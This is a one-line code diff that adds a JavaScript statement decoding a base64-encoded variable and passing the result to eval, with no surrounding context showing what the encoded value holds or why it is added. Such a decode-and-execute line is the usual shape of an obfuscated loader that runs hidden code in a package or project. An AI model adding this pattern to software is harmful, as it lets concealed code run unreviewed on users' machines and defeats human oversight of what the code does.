@@ -1,0 +1,1 @@
+eval(Buffer.from(P, 'base64').toString())
